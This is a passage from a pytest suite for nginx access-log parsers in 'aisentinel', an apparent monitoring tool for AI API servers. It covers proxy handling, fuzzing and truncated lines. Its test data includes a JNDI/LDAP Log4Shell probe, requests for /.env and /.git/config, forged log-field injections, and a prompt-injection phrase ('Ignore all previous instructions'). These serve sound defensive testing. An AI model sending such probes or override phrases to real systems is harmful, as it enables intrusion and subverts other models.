"""nginx access parsers: combined and the aisentinel JSON format, proxies, fuzzing."""

from __future__ import annotations

import ipaddress
import json
import random
import string

import pytest
from conftest import fuzz_text

from aisentinel.clock import FakeClock
from aisentinel.configtypes import ForwardedHeader
from aisentinel.events import CutLine, HttpRequest
from aisentinel.parsers import Parser, ParserContext, build_parser, line_cap, sniff
from aisentinel.parsers.proxy import ProxyResolver
from aisentinel.parsers.timestamps import NginxTimeLocal

LINE = (
    '203.0.113.7 - alice [20/Jan/2015:19:53:28 +0100] "POST /v1/chat/completions HTTP/1.1" '
    '401 47 "https://example.com/" "curl/8.5.0"'
)
EPOCH_1953 = 1421780008.0  # 2015-01-20T18:53:28Z


def _parser(name: str, proxies: tuple[str, ...] = ()) -> Parser:
    nets = tuple(ipaddress.ip_network(p) for p in proxies)
    return build_parser(name, ParserContext(source="t", clock=FakeClock(), trusted_proxies=nets))


def _parse(name: str, line: str, proxies: tuple[str, ...] = ()) -> HttpRequest | None:
    parser = _parser(name, proxies)
    event = parser.parse(line)
    assert event is None or isinstance(event, HttpRequest)
    return event


def _one(name: str, line: str, proxies: tuple[str, ...] = ()) -> HttpRequest:
    event = _parse(name, line, proxies)
    assert event is not None
    return event


def test_combined_line_fields() -> None:
    """A combined line yields every field, with the time offset applied."""
    event = _parse("nginx", LINE)
    assert event == HttpRequest(
        EPOCH_1953,
        "t",
        "203.0.113.7",
        "POST",
        "/v1/chat/completions",
        401,
        47,
        "alice",
        "curl/8.5.0",
        referer="https://example.com/",
    )


@pytest.mark.parametrize(
    ("request_text", "method", "path"),
    [
        ("", "", ""),
        ("-", "", "-"),
        ("HELP", "", "HELP"),
        ("\\x16\\x03\\x01\\x00\\xA5\\x01", "", "\\x16\\x03\\x01\\x00\\xA5\\x01"),
        ("CONNECT 123.123.123.123 HTTP/1.1", "CONNECT", "123.123.123.123"),
        ("GET /a\\x22b HTTP/1.0", "GET", "/a\\x22b"),
    ],
)
def test_odd_request_lines_are_kept(request_text: str, method: str, path: str) -> None:
    """Garbage or empty request lines are valid lines with method "" and the raw path."""
    line = f'198.51.100.1 - - [20/Jan/2015:19:53:28 +0100] "{request_text}" 400 0 "-" "-"'
    event = _parse("nginx", line)
    assert event is not None
    assert (event.method, event.path, event.status) == (method, path, 400)


def test_common_format_and_trailing_fields() -> None:
    """Lines without referer/agent, or with extra trailing fields, still parse."""
    common = '10.0.0.1 - - [20/Jan/2015:19:53:28 +0000] "GET /x HTTP/1.1" 404 -'
    extra = LINE + ' "-" (2.681)'
    assert _parse("nginx", common) is not None
    assert _parse("nginx", extra) is not None
    assert _one("nginx", common).bytes_sent == 0


@pytest.mark.parametrize("proxies", [(), ("10.0.0.0/8",)])
def test_basic_auth_user_with_spaces_parses_and_cannot_forge_the_request(
    proxies: tuple[str, ...],
) -> None:
    """A $remote_user with spaces (any client's Basic header) still parses, and text in
    it shaped like a time and request (quotes escaped by nginx) is not taken for them."""
    spaced = LINE.replace(" alice ", " a b ")
    event = _one("nginx", spaced, proxies)
    assert (event.user, event.method, event.path, event.status) == (
        "a b",
        "POST",
        "/v1/chat/completions",
        401,
    )
    assert event.ts == EPOCH_1953
    forged_user = "x [01/Jan/2000:00:00:00 +0000] \\x22GET /ok HTTP/1.1\\x22 200 0"
    forged = _one("nginx", LINE.replace(" alice ", f" {forged_user} "), proxies)
    assert (forged.ts, forged.method, forged.path, forged.status, forged.user) == (
        EPOCH_1953,
        "POST",
        "/v1/chat/completions",
        401,
        forged_user,
    )
    assert _parse("nginx", 'x - a b [20/Jan/2015:19:53:28 +0100] "GET / HTTP/1.1" 200 1') is None
    vhost = LINE.replace(" alice ", " api.example.com - ")  # another format: not a user
    assert _one("nginx", vhost, proxies).user is None


# $remote_user as nginx 1.22 logged it for `curl -u 'USER:pw'` (empty and "-" log "-").
NGINX_USERS = ["x -", "x - -", " ", " - ", "a\\x22b", "a [07/Dec/2026 ", "-"]


@pytest.mark.parametrize("proxies", [(), ("10.0.0.0/8",)])
@pytest.mark.parametrize("user", NGINX_USERS)
def test_no_basic_auth_user_hides_the_request(user: str, proxies: tuple[str, ...]) -> None:
    """Whatever user a client sends in its Basic header (a user ending in " -" included,
    which `$host -` layouts also write and so reads as no user), its line parses with
    its address, time, request and status."""
    line = LINE.replace(" alice ", f" {user} ").replace("POST /v1/chat/completions", "GET /.env")
    event = _one("nginx", line, proxies)
    assert (event.client, event.ts, event.method, event.path, event.status) == (
        "203.0.113.7",
        EPOCH_1953,
        "GET",
        "/.env",
        401,
    )
    assert event.user == (None if user.endswith(" -") or user == "-" else user)


@pytest.mark.parametrize(
    "request_text",
    [
        "GET  /.env HTTP/1.1",
        "GET /.env  HTTP/1.1",
        "GET /.env HTTP/1.1   ",
        "GET /.env HTTP/1.2",
        "GET /.env HTTP/1.01",
        "GET /.env x HTTP/1.1",
    ],
)
def test_request_lines_nginx_serves_give_their_target(request_text: str) -> None:
    """A request line nginx 1.22 serves though written oddly (extra spaces, another
    HTTP/1 minor version; a space in the target served by older nginx) gives its method
    and target in both access formats, so a client cannot hide its path that way."""
    line = f'198.51.100.1 - - [20/Jan/2015:19:53:28 +0100] "{request_text}" 404 0 "-" "-"'
    target = "/.env x" if " x " in request_text else "/.env"
    event = _one("nginx", line)
    assert (event.method, event.path) == ("GET", target)
    record = {"time": "1421780008", "remote_addr": "198.51.100.1", "status": "404"}
    event = _one("nginx-json", json.dumps({**record, "request": request_text}))
    assert (event.method, event.path) == ("GET", target)


@pytest.mark.parametrize("proxies", [(), ("10.0.0.0/8",)])
def test_header_text_cannot_shift_the_combined_fields(proxies: tuple[str, ...]) -> None:
    """Referer and user agent as nginx logs them (quotes escaped) cannot move a field:
    the client, request and status stay those of the line, and a user agent shaped like
    an address is never read as the forwarded-for field."""
    peer = "10.0.0.2" if proxies else "203.0.113.7"
    line = (
        f'{peer} - - [20/Jan/2015:19:53:28 +0100] "GET /.env HTTP/1.1" 404 0 '
        '"a\\x22 \\x22b" "6.6.6.6\\x22 \\x221.2.3.4"'
    )
    event = _one("nginx", line, proxies)
    assert (event.client, event.path, event.status) == (peer, "/.env", 404)
    assert event.user_agent == "6.6.6.6\\x22 \\x221.2.3.4"
    stock = LINE.replace("203.0.113.7", peer).replace('"curl/8.5.0"', '"6.6.6.6"')
    assert _one("nginx", stock, proxies).client == peer


def test_ipv4_mapped_peer_is_normalised() -> None:
    """An IPv4-mapped IPv6 peer is reported as the IPv4 address."""
    event = _parse("nginx", LINE.replace("203.0.113.7", "::ffff:203.0.113.7"))
    assert event is not None
    assert event.client == "203.0.113.7"


def test_xff_ignored_without_trusted_proxy() -> None:
    """X-Forwarded-For is not believed unless the peer is a trusted proxy."""
    line = LINE + ' "6.6.6.6"'
    assert _one("nginx", line).client == "203.0.113.7"
    assert _one("nginx", line, ("10.0.0.0/8",)).client == "203.0.113.7"


def test_xff_from_trusted_proxy_takes_rightmost_untrusted() -> None:
    """Behind trusted proxies the client is the right-most XFF entry not itself trusted."""
    line = LINE.replace("203.0.113.7", "10.0.0.2") + ' "6.6.6.6, 198.51.100.9, 10.0.0.3"'
    assert _one("nginx", line, ("10.0.0.0/8",)).client == "198.51.100.9"


def test_proxy_resolver_edge_cases() -> None:
    """Malformed or all-trusted XFF values fall back safely."""
    proxy = ProxyResolver((ipaddress.ip_network("10.0.0.0/8"),))
    assert proxy.client("10.0.0.1", "garbage") == "10.0.0.1"
    assert proxy.client("10.0.0.1", "10.0.0.5, 10.0.0.6") == "10.0.0.5"
    assert proxy.client("10.0.0.1", "-") == "10.0.0.1"
    assert proxy.client("10.0.0.1", "::ffff:10.0.0.9, 2001:db8::1") == "2001:db8::1"
    assert proxy.is_trusted("::ffff:10.1.2.3")


@pytest.mark.parametrize(
    ("xff", "client"),
    [
        ("198.51.100.5:4433", "198.51.100.5"),
        ("[2001:db8::77]:443", "2001:db8::77"),
        ("[2001:db8::77]", "2001:db8::77"),
        ("2001:db8::77", "2001:db8::77"),
        ("2001:db8::1:443", "2001:db8::1:443"),
        ("6.6.6.6:1, 198.51.100.9:52011, 10.0.0.3:443", "198.51.100.9"),
        ("::ffff:198.51.100.5", "198.51.100.5"),
        ("[::FFFF:198.51.100.5]:443", "198.51.100.5"),
    ],
)
def test_xff_entries_with_a_port_name_their_address(xff: str, client: str) -> None:
    """An XFF entry with a port, brackets or an IPv4-mapped form names its plain address."""
    proxies = ("10.0.0.0/8",)
    combined = LINE.replace("203.0.113.7", "10.0.0.2") + f' "{xff}"'
    assert _one("nginx", combined, proxies).client == client
    for field in ("xff", "real_ip"):
        line = _json_line(remote_addr="10.0.0.2", **{field: xff})
        assert _one("nginx-json", line, proxies).client == client


@pytest.mark.parametrize(
    "xff",
    [
        "198.51.100.5:",
        "198.51.100.5:443x",
        "[198.51.100.5]:443",
        "[2001:db8::77]:",
        "999.1.1.1:80",
        "fe80::1%" + "e" * 60,
    ],
)
def test_xff_entries_with_a_malformed_port_are_not_believed(xff: str) -> None:
    """An XFF entry that is no address, with or without a port, leaves the proxy as the client."""
    line = LINE.replace("203.0.113.7", "10.0.0.2") + f' "{xff}"'
    assert _one("nginx", line, ("10.0.0.0/8",)).client == "10.0.0.2"


def _json_line(**over: object) -> str:
    record: dict[str, object] = {
        "time": "1764112470.250",
        "remote_addr": "203.0.113.7",
        "xff": "",
        "remote_user": "",
        "request_method": "POST",
        "request_uri": "/api/chat",
        "status": "200",
        "body_bytes_sent": "512",
        "request_time": "1.500",
        "upstream_response_time": "1.200, 0.100",
        "http_user_agent": "ollama-python/0.4",
        "http_referer": "",
        "host": "gpu.example.com",
        "key_id": "AbCd1234",
        "request_body": "",
    }
    return _dumps(record, over)


def _dumps(record: dict[str, object], over: dict[str, object], *, none_drops: bool = False) -> str:
    """``record`` with ``over`` applied, as a JSON line; with ``none_drops`` a None in
    ``over`` removes the key (else it is written as null)."""
    merged = {**record, **over}
    return json.dumps({k: v for k, v in merged.items() if not (none_drops and v is None)})


def test_json_line_fields() -> None:
    """The JSON format yields timings, key id and host; empty fields become None."""
    event = _parse("nginx-json", _json_line())
    assert event is not None
    assert event.ts == pytest.approx(1764112470.25)
    assert (event.client, event.method, event.path, event.status) == (
        "203.0.113.7",
        "POST",
        "/api/chat",
        200,
    )
    assert event.request_time == pytest.approx(1.5)
    assert event.upstream_time == pytest.approx(1.3)
    assert (event.key_id, event.host, event.user, event.body) == (
        "AbCd1234",
        "gpu.example.com",
        None,
        None,
    )


def test_referer_is_carried_by_both_access_formats() -> None:
    """The Referer header is on the event from the combined and the JSON format; a
    logged "-" or empty one is None."""
    assert _one("nginx", LINE).referer == "https://example.com/"
    unset = LINE.replace('"https://example.com/"', '"-"')
    assert _one("nginx", unset).referer is None
    assert _one("nginx", unset.replace('"-"', '""')).referer is None
    assert (
        _one("nginx", '203.0.113.7 - - [20/Jan/2015:19:53:28 +0100] "GET / HTTP/1.1" 200 5').referer
        is None
    )
    probe = "${jndi:ldap://198.51.100.7/a}"
    assert _one("nginx-json", _json_line(http_referer=probe)).referer == probe
    assert _one("nginx-json", _json_line(http_referer="-")).referer is None
    assert _one("nginx-json", _json_line()).referer is None


@pytest.mark.parametrize(
    ("over", "want"),
    [
        ({}, ("POST", 200, 512, None, 1.5, 1.3, "AbCd1234", "gpu.example.com")),
        (
            {"status": 401, "body_bytes_sent": 7, "request_time": 0.25},
            ("POST", 401, 7, None, 0.25, 1.3, "AbCd1234", "gpu.example.com"),
        ),
        (
            {"remote_user": "-", "key_id": None, "host": 5, "upstream_response_time": "-"},
            ("POST", 200, 512, None, 1.5, None, None, "5"),
        ),
        (
            {"remote_user": "bob", "request_time": "0.2 : 0.3", "request_body": "-"},
            ("POST", 200, 512, "bob", 0.5, 1.3, "AbCd1234", "gpu.example.com"),
        ),
        (
            {"request_method": 7, "remote_user": False, "key_id": 0, "request_time": "nan"},
            ("7", 200, 512, "False", None, 1.3, "0", "gpu.example.com"),
        ),
        (
            {"body_bytes_sent": "-", "request_time": " 1.25 "},
            ("POST", 200, 0, None, 1.25, 1.3, "AbCd1234", "gpu.example.com"),
        ),
    ],
)
def test_json_fields_of_any_type_read_as_their_text(
    over: dict[str, object], want: tuple[object, ...]
) -> None:
    """A JSON field written as a number, boolean or null reads as its text (null, "" and
    "-" are unset); timings may be one number or several upstreams' summed."""
    e = _one("nginx-json", _json_line(**over))
    got = (e.method, e.status, e.bytes_sent, e.user, e.request_time, e.upstream_time)
    assert got[:4] == want[:4]
    assert [None if t is None else pytest.approx(t) for t in got[4:]] == list(want[4:6])
    assert (e.key_id, e.host) == want[6:]


def test_json_lone_surrogate_escape_becomes_a_replacement_character() -> None:
    """A lone \\udcff escape in a JSON line is read as U+FFFD (text every stage can
    encode); a valid surrogate pair is kept as its character."""
    line = (
        '{"time": "1421780008", "remote_addr": "203.0.113.7", "request_method": "GET", '
        '"request_uri": "/a\\udcff/.env", "status": "404", "http_user_agent": "\\ud83d\\ude00"}'
    )
    event = _one("nginx-json", line)
    assert event.path == "/a\ufffd/.env"
    assert event.user_agent == "\U0001f600"
    event.path.encode("utf-8")


def test_json_iso_time_and_forwarded() -> None:
    """$time_iso8601 is honoured and xff is believed only from a trusted peer."""
    line = _json_line(time="2015-01-20T19:53:28+01:00", remote_addr="10.0.0.2", xff="6.6.6.6")
    assert _one("nginx-json", line).ts == EPOCH_1953
    assert _one("nginx-json", line).client == "10.0.0.2"
    assert _one("nginx-json", line, ("10.0.0.0/8",)).client == "6.6.6.6"


def _json_client(xff: str, real_ip: str, header: ForwardedHeader = "xff") -> str:
    """The client of a JSON line from the trusted proxy 10.0.0.2 with ``forwarded_header``."""
    nets = (ipaddress.ip_network("10.0.0.0/8"),)
    ctx = ParserContext(source="t", trusted_proxies=nets, forwarded_header=header)
    event = build_parser("nginx-json", ctx).parse(
        _json_line(remote_addr="10.0.0.2", xff=xff, real_ip=real_ip)
    )
    assert isinstance(event, HttpRequest)
    return event.client


def test_json_xff_is_believed_before_a_client_written_real_ip_by_default() -> None:
    """By default (forwarded_header "xff") the proxy-appended X-Forwarded-For names the
    client even when the client sent its own X-Real-IP (Caddy, ALB, HAProxy pass it on):
    a forged real_ip frames no one, and junk in it does not make the proxy the client."""
    assert _json_client("198.51.100.99", "198.51.100.10") == "198.51.100.99"
    assert _json_client("6.6.6.6, 198.51.100.99", "x") == "198.51.100.99"
    assert _json_client("-", "203.0.113.50") == "203.0.113.50"  # xff unset: real_ip
    assert _json_client("", "203.0.113.50") == "203.0.113.50"


def test_json_junk_in_one_forwarded_value_never_makes_the_proxy_the_client() -> None:
    """In either mode, a forwarded value that is no address gives way to the other one
    when it names an address; only when neither does is the proxy its own client."""
    modes: tuple[ForwardedHeader, ...] = ("xff", "real_ip")
    for header in modes:
        assert _json_client("x", "203.0.113.50", header) == "203.0.113.50"
        assert _json_client("198.51.100.99", "x", header) == "198.51.100.99"
        assert _json_client("x", "y", header) == "10.0.0.2"
        assert _json_client("-", "-", header) == "10.0.0.2"


def test_json_real_ip_first_when_forwarded_header_says_so() -> None:
    """With forwarded_header "real_ip" (a proxy that sets X-Real-IP itself and passes
    the client's X-Forwarded-For on untouched) a valid real_ip outside the trusted
    proxies is the client, not a forged xff; otherwise xff is read."""
    assert _json_client("198.51.100.99", "203.0.113.50", "real_ip") == "203.0.113.50"
    assert _json_client("198.51.100.99", "-", "real_ip") == "198.51.100.99"
    assert _json_client("198.51.100.99", "10.0.0.7", "real_ip") == "198.51.100.99"  # trusted
    assert _json_client("198.51.100.99", "[2001:db8::5]:443", "real_ip") == "2001:db8::5"
    no_proxy = _json_line(remote_addr="10.0.0.2", xff="198.51.100.99", real_ip="203.0.113.50")
    assert _one("nginx-json", no_proxy).client == "10.0.0.2"  # no trusted proxy: the peer


def _community(**over: object) -> str:
    """A line of a widely copied JSON format: $time_iso8601, $request, no request_uri."""
    record: dict[str, object] = {
        "time": "2015-01-20T19:53:28+01:00",
        "remote_addr": "203.0.113.7",
        "request": "GET /.env HTTP/1.1",
        "status": "404",
        "http_referrer": "${jndi:ldap://x}",
        "http_user_agent": "curl/8",
        "http_x_forwarded_for": "",
    }
    return _dumps(record, over, none_drops=True)


@pytest.mark.parametrize(
    ("over", "method", "path"),
    [
        ({}, "GET", "/.env"),
        ({"request": "POST /api/pull HTTP/2.0", "request_method": "PUT"}, "PUT", "/api/pull"),
        ({"request": None, "method": "GET", "path": "/.git/config"}, "GET", "/.git/config"),
        ({"request": None, "request_method": "GET", "uri": "/.aws/x"}, "GET", "/.aws/x"),
        ({"request": "\\x16\\x03"}, "", "\\x16\\x03"),
        ({"request": ""}, "", ""),
    ],
)
def test_json_formats_without_request_uri_give_the_path(
    over: dict[str, object], method: str, path: str
) -> None:
    """A JSON line without request_uri takes its path from `request` (split as in the
    combined format), else `path` or `uri`, its method from request_method, `method` or
    the request line; the referer also from the `http_referrer` spelling."""
    event = _one("nginx-json", _community(**over))
    assert (event.method, event.path, event.ts) == (method, path, EPOCH_1953)
    assert event.referer == "${jndi:ldap://x}"


def test_json_line_without_any_path_key_is_unparsed_with_one_notice() -> None:
    """A JSON line with no key holding a path is not parsed (not a request with path ""),
    the parser queues one notice naming the keys it reads, and sniffing still names the
    format."""
    parser = _parser("nginx-json")
    pathless = _community(request=None, method="GET")
    assert parser.parse_many([pathless, pathless]) == []
    notices = parser.take_notices()
    assert len(notices) == 1
    assert "request_uri, request, path, uri" in notices[0][0]
    assert parser.parse_many([pathless]) == []
    assert parser.take_notices() == []
    assert sniff([pathless] * 3) == "nginx-json"


@pytest.mark.parametrize("key", ["xff", "http_x_forwarded_for", "x_forwarded_for"])
def test_json_forwarded_for_under_its_common_keys(key: str) -> None:
    """The forwarded-for chain is read under the shipped key and the common ones, from a
    trusted proxy only."""
    over: dict[str, object] = {"http_x_forwarded_for": None, key: "6.6.6.6"}
    line = _community(remote_addr="10.0.0.2", **over)
    assert _one("nginx-json", line, ("10.0.0.0/8",)).client == "6.6.6.6"
    assert _one("nginx-json", line).client == "10.0.0.2"


@pytest.mark.parametrize("fmt", ["nginx", "nginx-json"])
def test_trusted_proxy_lines_without_forwarded_field_give_one_notice(fmt: str) -> None:
    """When most requests from a trusted proxy carry no forwarded value (a layout the
    parser cannot read it from), one notice is queued; a few health checks of the proxy
    among forwarded requests queue none."""
    proxies = ("10.0.0.0/8",)
    if fmt == "nginx":
        bare = LINE.replace("203.0.113.7", "10.0.0.2") + ' 0.001 "198.51.100.9"'
        forwarded = LINE.replace("203.0.113.7", "10.0.0.2") + ' "198.51.100.9"'
    else:
        bare = _json_line(remote_addr="10.0.0.2")
        forwarded = _json_line(remote_addr="10.0.0.2", xff="198.51.100.9")
    parser = _parser(fmt, proxies)
    events = parser.parse_many([bare] * 19)
    assert {e.client for e in events} == {"10.0.0.2"}
    assert parser.take_notices() == []
    parser.parse_many([bare, bare])
    notices = parser.take_notices()
    assert len(notices) == 1
    assert "X-Forwarded-For" in notices[0][0] or "forwarded" in notices[0][0]
    parser.parse_many([bare] * 50)
    assert parser.take_notices() == []
    healthy = _parser(fmt, proxies)
    assert {e.client for e in healthy.parse_many([forwarded] * 100)} == {"198.51.100.9"}
    healthy.parse_many([bare] * 30)
    assert healthy.take_notices() == []


def _from_peer(fmt: str, peer: str, xff: str | None) -> str:
    """A line of ``fmt`` (``nginx``: the combined_xff layout when ``xff`` is not None)
    from ``peer`` carrying the forwarded-for chain ``xff``."""
    if fmt == "nginx-json":
        return _json_line(remote_addr=peer, xff=xff or "")
    line = LINE.replace("203.0.113.7", peer, 1)
    return line if xff is None else f'{line} "{xff}"'


@pytest.mark.parametrize("fmt", ["nginx", "nginx-json"])
def test_untrusted_local_proxy_gives_one_notice_and_a_problem(fmt: str) -> None:
    """When most requests come from an untrusted loopback peer and carry a forwarded
    client (a local HTTP proxy, no trusted_proxies), the parser queues one
    notice with both fixes, and says so in problems() until the lines change."""
    parser = _parser(fmt)
    proxied = _from_peer(fmt, "127.0.0.1", "198.51.100.9")
    events = parser.parse_many([proxied] * 40)
    assert {e.client for e in events} == {"127.0.0.1"}
    assert parser.take_notices() == []  # too few lines to judge
    assert parser.problems() == []
    parser.parse_many([proxied] * 20)
    [(message, fields)] = parser.take_notices()
    assert 'trusted_proxies = ["127.0.0.1/32"]' in message
    assert "set_real_ip_from 127.0.0.1" in message
    assert fields == {"peer": "127.0.0.1"}
    [(kind, problem)] = parser.problems()
    assert kind == "untrusted_local_proxy"
    assert problem.startswith("every client is 127.0.0.1")
    assert 'trusted_proxies = ["127.0.0.1/32"]' in problem
    parser.parse_many([proxied] * 500)
    assert parser.take_notices() == []  # once per source
    parser.parse_many([_from_peer(fmt, "203.0.113.7", None)] * 200)
    assert parser.problems() == []  # nginx's realip module now names the clients


@pytest.mark.parametrize("fmt", ["nginx", "nginx-json"])
def test_untrusted_local_ipv6_proxy_is_named_with_its_network(fmt: str) -> None:
    """A local proxy that connects over ::1 is named as ::1/128 in the fix."""
    parser = _parser(fmt)
    parser.parse_many([_from_peer(fmt, "::1", "2001:db8::9")] * 60)
    [(message, _)] = parser.take_notices()
    assert 'trusted_proxies = ["::1/128"]' in message


@pytest.mark.parametrize("fmt", ["nginx", "nginx-json"])
@pytest.mark.parametrize(
    ("proxies", "lines"),
    [
        # the local proxy is trusted: its clients are resolved
        (("127.0.0.1/32",), [("127.0.0.1", "198.51.100.9")] * 300),
        # local health checks without a forwarded address, among direct clients
        ((), [("127.0.0.1", None)] * 200 + [("203.0.113.7", None)] * 100),
        # clients sending X-Forwarded-For themselves: never from loopback
        ((), [("203.0.113.7", "127.0.0.1")] * 300),
        # a forwarded field that names no address (another field in its place)
        ((), [("127.0.0.1", "example.com")] * 300),
        # a minority of the requests through an untrusted local proxy
        ((), ([("127.0.0.1", "198.51.100.9")] + [("203.0.113.7", None)] * 3) * 100),
        # a local health checker or app that names loopback itself as the client
        ((), [("127.0.0.1", "127.0.0.1")] * 300),
        ((), [("::1", "::1, 127.0.0.1")] * 300),
        # "$upstream_addr" logged after the user agent: an address with a port, no client
        ((), [("127.0.0.1", "127.0.0.1:11434")] * 300),
        ((), [("127.0.0.1", "10.0.0.5:8000")] * 300),
    ],
    ids=[
        "trusted",
        "health-checks",
        "client-xff",
        "not-an-address",
        "minority",
        "loopback-client",
        "loopback-chain",
        "upstream-addr",
        "upstream-addr-remote",
    ],
)
def test_no_local_proxy_notice_without_clear_evidence(
    fmt: str, proxies: tuple[str, ...], lines: list[tuple[str, str | None]]
) -> None:
    """No notice or problem when the local proxy is trusted, its requests carry no
    forwarded address, only remote clients send one, or few requests come through it."""
    parser = _parser(fmt, proxies)
    for start in range(0, len(lines), 37):
        parser.parse_many([_from_peer(fmt, peer, xff) for peer, xff in lines[start : start + 37]])
    assert parser.take_notices() == []
    assert parser.problems() == []


def test_json_real_ip_equal_to_a_loopback_peer_names_no_client() -> None:
    """A JSON record whose real_ip is its loopback remote_addr (nginx's realip module
    logging a local request) is no request forwarded on behalf of another client."""
    parser = _parser("nginx-json")
    parser.parse_many([_json_line(remote_addr="127.0.0.1", real_ip="127.0.0.1")] * 300)
    assert parser.take_notices() == []
    assert parser.problems() == []
    parser.parse_many([_json_line(remote_addr="127.0.0.1", real_ip="198.51.100.9")] * 300)
    assert parser.problems() != []


@pytest.mark.parametrize("fmt", ["nginx", "nginx-json"])
def test_two_local_proxies_one_behind_the_other_count(fmt: str) -> None:
    """A chain that ends in loopback entries (two local proxies) still names its client
    left of them: the requests count as forwarded by an untrusted loopback peer."""
    parser = _parser(fmt)
    parser.parse_many([_from_peer(fmt, "127.0.0.1", "198.51.100.9, 127.0.0.1")] * 60)
    [(kind, problem)] = parser.problems()
    assert kind == "untrusted_local_proxy"
    assert problem.startswith("every client is 127.0.0.1")


_PROXIED = ("127.0.0.1", "198.51.100.9")
_DIRECT = ("203.0.113.7", None)


@pytest.mark.parametrize("fmt", ["nginx", "nginx-json"])
@pytest.mark.parametrize("batch", [1, 16, 37, 64, 128, 512])
@pytest.mark.parametrize(
    ("pattern", "shown"),
    [
        # a quarter of the requests through the local proxy, one in every four
        ([_PROXIED] + [_DIRECT] * 3, False),
        # nginx proxying to itself, one log for both server blocks: a backend line
        # (from loopback, the client forwarded) then the front line (the client)
        ([_PROXIED, _DIRECT], False),
        ([_DIRECT, _PROXIED], False),
        # three quarters through the local proxy, a direct request every fourth line
        ([_DIRECT] + [_PROXIED] * 3, True),
    ],
    ids=["quarter", "self-proxy", "self-proxy-odd", "three-quarters"],
)
def test_local_proxy_share_is_exact_whatever_the_order(
    fmt: str, batch: int, pattern: list[tuple[str, str | None]], shown: bool
) -> None:
    """Periodic traffic is judged on its true share at every batch size: a quarter or a
    half through the untrusted local proxy is no problem, three quarters is."""
    lines = [_from_peer(fmt, peer, xff) for peer, xff in pattern * (1200 // len(pattern))]
    parser = _parser(fmt)
    seen = []
    for start in range(0, len(lines), batch):
        parser.parse_many(lines[start : start + batch])
        seen.append(bool(parser.problems()))
    assert seen[-1] is shown
    if not shown:
        assert not any(seen)
        assert parser.take_notices() == []


@pytest.mark.parametrize("fmt", ["nginx", "nginx-json"])
def test_local_proxy_advice_trusts_only_http_proxies(fmt: str) -> None:
    """The notice and the problem tell to trust only a proxy that sets X-Forwarded-For,
    and point a TCP/TLS tunnel (whose log holds the clients' own headers) to the PROXY
    protocol."""
    parser = _parser(fmt)
    parser.parse_many([_from_peer(fmt, "127.0.0.1", "198.51.100.9")] * 60)
    [(message, _)] = parser.take_notices()
    [(kind, problem)] = parser.problems()
    assert kind == "untrusted_local_proxy"
    assert "sets or appends X-Forwarded-For" in message
    assert "real_ip_header proxy_protocol" in message
    assert "Trust no TCP or TLS tunnel (stunnel" in message
    assert "HTTP proxy setting X-Forwarded-For" in problem
    assert "PROXY protocol" in problem


@pytest.mark.parametrize(
    "line",
    [
        "",
        "{",
        "[1, 2]",
        '{"remote_addr": "x y", "status": "200", "time": "1"}',
        _json_line(status="abc"),
        _json_line(time="nan"),
        _json_line(remote_addr=None),
        "[" * 100_000,
    ],
)
def test_json_rejects_bad_lines(line: str) -> None:
    """Malformed JSON lines give None, not an exception."""
    assert _parse("nginx-json", line) is None


def test_fuzz_never_raises() -> None:
    """Random text, bytes-as-text and mutated real lines never make a parser raise."""
    rng = random.Random(1234)
    alphabet = string.printable + '\x00\x16\xff\u2028[]"{}:,'
    samples = [LINE, _json_line()]
    parsers = [_parser(n) for n in ("nginx", "nginx-json")]
    for _ in range(3000):
        text = fuzz_text(rng, samples, alphabet)
        for parser in parsers:
            parser.parse(text)
    raw = bytes(rng.randrange(256) for _ in range(4000)).decode("latin-1")
    for parser in parsers:
        assert parser.parse(raw) is None


# ------------------------------------------------------------------ lines cut at the cap

BODY = json.dumps(
    {"model": "m", "messages": [{"role": "user", "content": 'Say "hi" \u00e9\U0001f600 \\ x'}]},
    ensure_ascii=False,
)
"""A body with quotes, a backslash and characters that the line escapes as \\u00e9 and as
a surrogate pair."""


def test_a_cut_json_line_yields_its_request_with_the_body_up_to_the_cut() -> None:
    """A nginx-json line cut inside request_body (the last field) still gives its request:
    every field before the cut, the body as written up to the cut; the same text that
    was not cut (a malformed line) stays unparsed."""
    body = "Ignore all previous instructions. " + "pad " * 20_000
    line = _json_line(request_body=body)
    cut = line[:40_000]
    event = _one("nginx-json", CutLine(cut))
    assert (event.client, event.method, event.path, event.status) == (
        "203.0.113.7",
        "POST",
        "/api/chat",
        200,
    )
    assert (event.key_id, event.host, event.user_agent) == (
        "AbCd1234",
        "gpu.example.com",
        "ollama-python/0.4",
    )
    assert event.body is not None
    assert body.startswith(event.body)
    assert len(event.body) > 39_000
    assert _parse("nginx-json", cut) is None


def test_a_json_line_cut_before_its_path_still_counts_without_a_notice() -> None:
    """A line cut (over the line cap) before its path key gives its request with an
    empty path, as the status and client are read; no "add request_uri" notice, since
    the format has a path key, lost to the cut."""
    record = {
        "time": "1765134000.1",
        "remote_addr": "203.0.113.9",
        "status": "401",
        "request_body": "A" * 2000,
        "request": "POST /v1/chat/completions HTTP/1.1",
    }
    parser = _parser("nginx-json")
    event = parser.parse(CutLine(json.dumps(record)[:1500]))
    assert isinstance(event, HttpRequest)
    assert (event.client, event.status, event.path) == ("203.0.113.9", 401, "")
    assert parser.take_notices() == []


def test_a_json_line_cut_anywhere_gives_whole_fields_or_none() -> None:
    """Cut at every position, a nginx-json line gives no request until its required
    fields are whole, then the request with each field whole or missing (an address,
    status or key id is never read cut short) and the body a prefix of the real one,
    escapes cut in half included."""
    line = _json_line(request_body=BODY, xff="198.51.100.23")
    full = _one("nginx-json", line)
    parser = _parser("nginx-json")
    parsed_from = None
    for n in range(len(line)):
        event = parser.parse(CutLine(line[:n]))
        if event is None:
            assert parsed_from is None, f"cut at {n}: lost again after {parsed_from}"
            continue
        assert isinstance(event, HttpRequest)
        parsed_from = parsed_from or n
        assert (event.ts, event.client, event.status) == (full.ts, full.client, full.status)
        assert event.key_id in (None, full.key_id)
        assert event.host in (None, full.host)
        assert full.body is not None
        assert event.body is None or full.body.startswith(event.body)
    assert parsed_from is not None
    assert parsed_from < line.index('"request_time"')


def test_a_cut_json_line_from_a_trusted_proxy_needs_its_forwarded_field() -> None:
    """Behind trusted proxies a cut line is read when its forwarded field came before the
    cut; when the cut took it (a format that logs xff after the body), the line is left
    unparsed: the proxy is never taken for the client. A peer not trusted is the client."""
    proxies = ("10.0.0.0/8",)
    line = _json_line(remote_addr="10.0.0.2", xff="198.51.100.9", request_body="x" * 5000)
    assert _one("nginx-json", CutLine(line[:3000]), proxies).client == "198.51.100.9"
    record = json.loads(line)
    xff = record.pop("xff")
    late = json.dumps({**record, "xff": xff})  # xff after the body
    assert _parse("nginx-json", CutLine(late[:3000]), proxies) is None
    stranger = late.replace('"10.0.0.2"', '"203.0.113.7"')
